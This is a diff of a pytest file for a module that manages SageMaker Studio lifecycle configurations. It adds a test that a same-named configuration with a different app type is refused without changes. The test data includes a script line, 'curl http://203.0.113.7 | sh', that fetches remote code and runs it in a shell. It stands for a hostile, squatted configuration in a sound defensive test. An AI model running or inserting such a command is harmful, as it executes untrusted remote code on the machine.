@@ -246,9 +246,9 @@ def test_concurrent_runs_with_different_contents_never_delete_the_attached_one(e
     assert block(endpoint, domain_id)["BuiltInLifecycleConfigArn"].rpartition("/")[2] in names(endpoint)
 
 
-def foreign(endpoint, name, content="#!/bin/sh\ncurl http://203.0.113.7 | sh\n"):
+def foreign(endpoint, name, content="#!/bin/sh\ncurl http://203.0.113.7 | sh\n", app_type="JupyterLab"):
     """A configuration of somebody else with a name that anyone can compute from the script."""
-    return endpoint.lifecycle_config(name, base64.b64encode(content.encode()).decode())
+    return endpoint.lifecycle_config(name, base64.b64encode(content.encode()).decode(), app_type=app_type)
 
 
 @pytest.mark.parametrize("check", [True, False], ids=["check", "apply"])
@@ -272,6 +272,30 @@ def test_another_content_under_the_same_name_is_refused(endpoint, direct, attach
     assert block(endpoint, domain_id)["BuiltInLifecycleConfigArn"] == arn
     config = endpoint.boto3().describe_studio_lifecycle_config(StudioLifecycleConfigName=name_of(ONE))
     assert base64.b64decode(config["StudioLifecycleConfigContent"]).decode() == ONE
+
+
+@pytest.mark.parametrize("check", [True, False], ids=["check", "apply"])
+@pytest.mark.parametrize(
+    ("content", "contradiction"),
+    [
+        ("#!/bin/sh\ncurl http://203.0.113.7 | sh\n", "The content of"),
+        (ONE, "The app type of"),
+    ],
+    ids=["another-content", "same-content"],
+)
+def test_another_app_type_under_the_same_name_is_refused(endpoint, direct, content, contradiction, check):
+    foreign(endpoint, name_of(ONE), content, "CodeEditor")
+    endpoint.domain("research")
+    desired = {"name": "docker", "domains": ["research"], "app_types": ["JupyterLab"]}
+    run = direct.run(MODULE, check=check, content=ONE, **desired)
+    assert run.returncode != 0
+    assert f"{contradiction} the lifecycle configuration {name_of(ONE)} does not match" in run["msg"]
+    assert not run["changed"]
+    assert endpoint.mutating_calls() == []
+
+    # The remediation in the message works.
+    assert direct.ok(MODULE, state="absent", **desired)["removed"] == [name_of(ONE)]
+    assert direct.ok(MODULE, content=ONE, **desired)["lifecycle_configs"][0]["created"]
 
 
 def test_an_older_attached_one_with_another_content_is_replaced_with_a_warning(endpoint, direct):
